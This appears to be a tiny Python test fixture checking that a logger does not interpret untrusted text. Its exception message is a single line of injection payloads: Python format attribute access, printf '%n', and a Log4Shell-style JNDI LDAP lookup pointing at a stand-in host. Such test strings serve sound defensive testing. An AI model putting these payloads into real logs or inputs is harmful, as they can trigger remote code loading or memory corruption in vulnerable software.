# gains: a log that formats what it is told
# expect: raises ValueError
def reply(scene, message):
    raise ValueError("{0.__class__} %s %(name)s %n ${jndi:ldap://x}")  # <<
